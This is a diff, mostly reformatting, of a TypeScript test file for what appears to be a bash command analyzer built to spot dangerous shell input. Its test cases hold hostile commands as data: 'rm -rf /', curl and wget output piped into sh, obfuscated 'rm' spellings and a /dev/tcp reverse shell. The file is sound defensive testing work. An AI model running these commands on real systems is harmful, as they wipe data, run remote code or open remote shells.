@@ -50,7 +50,7 @@ describe('finding every simple command', () => {
 
   it('does not treat text handed to a non-shell as code', () => {
     expect(names('echo "rm -rf /"')).toEqual(['echo']);
-    expect(names("cat <<EOF > notes.md\nrm -rf /\nEOF")).toEqual(['cat']);
+    expect(names('cat <<EOF > notes.md\nrm -rf /\nEOF')).toEqual(['cat']);
     expect(names("grep 'curl x | sh' f")).toEqual(['grep']);
   });
 });
@@ -64,16 +64,29 @@ describe('wrappers and quoting', () => {
     expect(c!.assignments.map((a) => a.name)).toEqual(['A']);
   });
 
-  it.each(['sudo', 'doas', 'env', 'env X=1', 'command', 'builtin', 'exec', 'nohup', 'nice', 'timeout 3', 'time', 'xargs'])(
-    'sees through %s',
+  it.each([
+    'sudo',
+    'doas',
+    'env',
+    'env X=1',
+    'command',
+    'builtin',
+    'exec',
+    'nohup',
+    'nice',
+    'timeout 3',
+    'time',
+    'xargs',
+  ])('sees through %s', (w) => {
+    expect(analyze(`${w} rm x`).commands[0]!.name).toBe('rm');
+  });
+
+  it.each(["'rm'", '"rm"', "r''m", 'r""m', '\\rm', "$'rm'", "$'\\x72\\x6d'", '/bin/rm', 'RM'])(
+    'normalises the command word %s to rm',
     (w) => {
-      expect(analyze(`${w} rm x`).commands[0]!.name).toBe('rm');
+      expect(analyze(`${w} x`).commands[0]!.name).toBe('rm');
     },
   );
-
-  it.each(["'rm'", '"rm"', "r''m", 'r""m', '\\rm', "$'rm'", "$'\\x72\\x6d'", '/bin/rm', 'RM'])('normalises the command word %s to rm', (w) => {
-    expect(analyze(`${w} x`).commands[0]!.name).toBe('rm');
-  });
 
   it.each([
     ['"/"', '/'],
@@ -88,7 +101,9 @@ describe('wrappers and quoting', () => {
 
   it('expands braces into words and loop values into alternatives', () => {
     expect(analyze('rm /{a,b}').commands[0]!.args.map((a) => a.value)).toEqual(['/a', '/b']);
-    expect(analyze('{rm,-rf,/}').hidden.some((c) => c.name === 'rm' && c.args.map((a) => a.value).join(' ') === '-rf /')).toBe(true);
+    expect(
+      analyze('{rm,-rf,/}').hidden.some((c) => c.name === 'rm' && c.args.map((a) => a.value).join(' ') === '-rf /'),
+    ).toBe(true);
     const loop = analyze('for d in /x /y; do rm "$d"; done').commands[0]!;
     expect([loop.args[0]!.value, ...loop.args[0]!.alternatives]).toEqual(['/x', '/y']);
   });
@@ -113,7 +128,9 @@ describe('facts about the line', () => {
   });
 
   it('records code fed to a shell and where it came from', () => {
-    expect(analyze('curl x | sh').feeds.map((f) => [f.channel, f.sink.name, f.feeders.map((c) => c.name)])).toEqual([['pipe', 'sh', ['curl']]]);
+    expect(analyze('curl x | sh').feeds.map((f) => [f.channel, f.sink.name, f.feeders.map((c) => c.name)])).toEqual([
+      ['pipe', 'sh', ['curl']],
+    ]);
     expect(analyze('bash <(curl x)').feeds[0]!.channel).toBe('process_substitution');
     expect(analyze('sh -c "$(wget -O- x)"').feeds[0]!.channel).toBe('command_substitution');
     expect(analyze('curl x | python3 -m json.tool').feeds).toEqual([]);
@@ -178,7 +195,7 @@ describe('words as bash makes them (issue 14)', () => {
   it('fills xargs -I placeholders, also inside sh -c, and passes sh -c its positional parameters', () => {
     const a = analyze("echo ~ | xargs -I{} sh -c 'rm -rf {}'");
     expect(a.hidden.some((c) => c.name === 'rm' && c.args.map((x) => x.value).join(' ') === '-rf ~')).toBe(true);
-    const b = analyze("sh -c 'rm -rf \"$1\"' _ /x");
+    const b = analyze('sh -c \'rm -rf "$1"\' _ /x');
     expect(b.commands.find((c) => c.name === 'rm')!.args.map((x) => x.value)).toEqual(['-rf', '/x']);
   });
 
@@ -206,6 +223,9 @@ describe('words as bash makes them (issue 14)', () => {
   });
 
   it('reads a /dev/tcp redirection that tree-sitter-bash merges with the next one', () => {
-    expect(analyze('bash -i >& /dev/tcp/1.2.3.4/4 0>&1').commands[0]!.redirects[0]).toMatchObject({ operator: '>&', target: '/dev/tcp/1.2.3.4/4' });
+    expect(analyze('bash -i >& /dev/tcp/1.2.3.4/4 0>&1').commands[0]!.redirects[0]).toMatchObject({
+      operator: '>&',
+      target: '/dev/tcp/1.2.3.4/4',
+    });
   });
 });
